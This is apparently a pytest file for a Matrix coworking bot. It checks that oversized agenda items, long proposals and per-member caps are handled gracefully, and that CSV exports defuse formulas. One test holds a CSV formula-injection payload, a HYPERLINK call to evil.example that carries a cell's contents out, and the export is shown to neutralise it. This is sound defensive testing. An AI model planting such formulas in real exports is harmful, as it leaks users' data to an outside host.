"""A griefer's worst input against the size limit and the caps: long agenda items full of
`<&>` (HTML makes `&` five bytes), many long proposals, formulas in a status note. Posts keep
updating, commands keep answering, and over a member's cap the answer is a friendly no."""

from __future__ import annotations

import asyncio
import csv
import io

import pytest
import yaml

from matrixcowork.cli import main
from tests.helpers import Member, berlin

from .checkin_world import coworking_world
from .sync_world import YES, nick, sync_world
from .webinar_world import webinar_world

HEAVY = "<&>" * 99  # 297 characters; as HTML 1,287 bytes


def heavy_item(n: int) -> str:
    return f"{n:02d} {HEAVY}"  # 300 characters, the most an item may have


async def test_sixty_heavy_agenda_items_leave_the_sync_working(
    make_bot, members: dict[str, Member]
) -> None:
    world = await sync_world(make_bot, members, berlin(2026, 12, 28, 12, 0))
    anna, ben, cem, room = world.anna, world.ben, world.cem, world.room
    for n in range(1, 61):  # an organizer may add past a member's cap
        added = await anna.ask(room, "!agenda add " + heavy_item(n))
        assert added.body.startswith(f"Added as item {n} ")

    await world.tick(berlin(2026, 12, 29, 18, 0))
    post = await world.next_post("📅")
    assert "01 <&><&>" in post.body and "more: !agenda" in post.body
    await ben.react(room, post.event.event_id, YES)
    await world.wait_for_edit(post.event.event_id, has=[f"✅ Coming (1): {nick(ben)}",
                                                        "more: !agenda"])
    overview = await cem.ask(room, "!sync")
    assert overview.body.startswith("📅 Monthly sync") and "more: !agenda" in overview.body
    listed = await cem.ask(room, "!agenda")
    last = await cem.wait_for(lambda s: s.reply_to == listed.reply_to
                              and "60 <&>" in s.body)
    shown = "".join(s.body for s in cem.replies(listed.reply_to))
    assert all(heavy_item(n) in shown for n in range(1, 61)) and last

    await world.tick(berlin(2027, 1, 5, 18, 0))
    await world.tick(berlin(2027, 1, 5, 19, 0))
    summary = await world.next_post("✅")
    assert "is over" in summary.body and "more: !agenda" in summary.body
    assert (await world.steps())["end"] == "done"


async def test_a_member_over_the_agenda_cap_is_told_kindly_and_nothing_is_written(
    make_bot, members: dict[str, Member]
) -> None:
    world = await sync_world(make_bot, members, berlin(2026, 12, 28, 12, 0))
    ben, room = world.ben, world.room
    for n in range(1, 6):
        await ben.ask(room, "!agenda add " + heavy_item(n))
    before = await world.bot.services.store.dump()

    refused = await ben.ask(room, "!agenda add " + heavy_item(6))

    assert refused.body == (
        "You have 5 topics on the agenda of the sync on Tue, Jan 5, 2027, 6:00\u202fPM"
        "\u20137:00\u202fPM already, as many as one member can add. Remove one first: "
        "!agenda remove <n>")
    assert await world.bot.services.store.dump() == before


async def test_the_webinar_list_fits_with_eighty_long_proposals(
    make_bot, members: dict[str, Member]
) -> None:
    world = await webinar_world(make_bot, members)
    anna, ben, room = world.anna, world.ben, world.room
    title = "😀" * 118  # 8 bytes a character in the list (HTML and plain body)
    for n in range(1, 81):
        answer = await anna.ask(room, f"!webinar propose {n:02d}{title} | {HEAVY}")
        assert answer.body.startswith(f"Proposal #{n} is up")

    listed = await ben.ask(room, "!webinar list")

    assert listed.body.startswith("Proposals (3 👍 make enough interest)")
    assert f"01{title}" in listed.body and "more with fewer votes" in listed.body
    for n in (1, 2, 3):  # a member's cap
        assert (await ben.ask(room, f"!webinar propose Mine {n}")).body.startswith("Proposal")
    before = await world.bot.services.store.dump()
    refused = await ben.ask(room, "!webinar propose One too many")
    assert refused.body == (
        "You have 3 open proposals already, as many as one member can have. Once one is "
        "scheduled or withdrawn (!webinar cancel <id>), propose the next.")
    assert await world.bot.services.store.dump() == before


async def test_formulas_in_status_notes_reach_the_csv_inert(
    make_bot, members: dict[str, Member], tmp_path, capsys: pytest.CaptureFixture[str]
) -> None:
    world = await coworking_world(make_bot, members)
    formula = '=HYPERLINK("https://evil.example/?d="&A1;"Bericht")'
    await world.ben.ask(world.room, "!checkin remote")
    noted = await world.ben.ask(world.room, "!status " + formula)
    assert noted.reply_to
    await world.cem.ask(world.room, "!checkin onsite @SUM(1+1)")

    config = tmp_path / "export.yaml"
    config.write_text(yaml.safe_dump({
        "homeserver": world.bot.config.homeserver, "user_id": world.bot.user_id,
        "password": "not-needed", "admins": [world.anna.user_id],
        "data_dir": str(world.bot.config.data_dir),
    }))
    day = world.bot.clock.now().date().isoformat()
    capsys.readouterr()
    assert await asyncio.to_thread(main, ["export", "attendance", "--from", day, "--to", day,
                                          "-c", str(config)]) == 0
    rows = {r["user_id"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}

    assert rows[world.ben.user_id]["note"] == "'" + formula
    assert rows[world.cem.user_id]["note"] == "'@SUM(1+1)"
    stored = await world.rows("SELECT note FROM checkin_attendance WHERE user_id = ?",
                              world.ben.user_id)
    assert stored == [(formula,)]  # the store keeps what was typed
